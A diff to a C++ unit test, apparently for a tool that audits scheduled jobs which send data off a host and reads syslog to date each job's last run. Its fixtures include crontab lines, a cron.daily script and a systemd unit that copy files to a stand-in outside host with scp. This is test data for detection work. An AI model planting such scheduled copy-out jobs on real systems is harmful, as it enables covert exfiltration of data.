@@ -81,7 +81,8 @@ TEST_CASE("registered: when each ran last") {
   unit.name = "a";
   unit.starts = 1;
   unit.last = 1796173400000;
-  find_last_runs(found, matcher, image, std::vector{session, unit});
+  const std::vector jobs{session, unit};
+  find_last_runs(found, matcher, image, {jobs, 0, 0, nullptr, {}});
   CHECK(found[0].last_run == 1796173321000);
   CHECK(found[0].last_run_by == "session of cron");
   CHECK_FALSE(found[1].last_run);
@@ -89,6 +90,46 @@ TEST_CASE("registered: when each ran last") {
   CHECK(found[2].last_run_by == "day of anacron's stamp");
   CHECK(found[3].last_run == 1796173400000);
   CHECK(found[3].last_run_by == "unit's records");
+}
+
+TEST_CASE("registered: what starters wrote to syslog tells when each ran last") {
+  const auto image = std::make_shared<Image>(Files{
+      {"/etc/debian_version", "12\n"},
+      {"/etc/timezone", "Etc/UTC\n"},
+      {"/etc/crontab",
+       "2 1 * * * root scp /a b@192.0.2.1:x\n2 5 * * * al scp /c b@192.0.2.1:x\n"
+       "3 6 * * * root scp /s b@192.0.2.1:x\n4 7 * * * root scp /s b@192.0.2.1:x\n"},
+      {"/etc/cron.daily/push", "#!/bin/sh\nscp /d b@192.0.2.1:x\n"},
+      {"/etc/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/scp /e b@192.0.2.1:x\n"},
+      {"/var/log/syslog.1",
+       "2026-12-01T01:02:01Z h CRON[7]: (root) CMD (scp /a b@192.0.2.1:x)\n"
+       "2026-12-01T05:02:01Z h CRON[7]: (root) CMD (scp /c b@192.0.2.1:x)\n"
+       "2026-12-01T05:02:01Z other CRON[7]: (al) CMD (scp /c b@192.0.2.1:x)\n"
+       "2026-12-01T06:03:01Z h CRON[7]: (root) CMD (scp /s b@192.0.2.1:x)\n"
+       "2026-12-01T06:30:00Z h anacron[7]: Job `cron.daily' started\n"},
+      {"/var/log/syslog",
+       "2026-12-02T01:02:01Z h CRON[7]: (root) CMD (scp /a b@192.0.2.1:x)\n"
+       "2026-12-02T03:00:00Z h systemd[1]: Starting a.service - Push...\n"
+       "2026-12-02T04:00:00Z h logger: (root) CMD (scp /a b@192.0.2.1:x)\n"},
+  });
+  const Matcher matcher(collect(*image));
+  auto found = find_registered(matcher.inventory(), *image, auexfil::test::rules().tools);
+  const SystemLogs others({image, "/", true});
+  find_last_runs(found, matcher, *image, {{}, 0, 0, &others, "h"});
+  Lines told;
+  for (const Registered& one : found) {
+    told.push_back(one.artefact->where() + " " +
+                   (one.last_run ? audit::format_rfc3339(*one.last_run) : "-") + " " +
+                   one.last_run_by);
+  }
+  CHECK(told == Lines{"/etc/crontab:1 2026-12-02T01:02:01.000Z cron's line /var/log/syslog:1",
+                      "/etc/crontab:2 - ",
+                      "/etc/crontab:3 2026-12-01T06:03:01.000Z cron's line /var/log/syslog.1:4",
+                      "/etc/crontab:4 - ",
+                      "/etc/cron.daily/push 2026-12-01T06:30:00.000Z anacron's line "
+                      "/var/log/syslog.1:5",
+                      "/etc/systemd/system/a.service 2026-12-02T03:00:00.000Z systemd's line "
+                      "/var/log/syslog:2"});
 }
 
 }  // namespace auexfil::artefacts::test
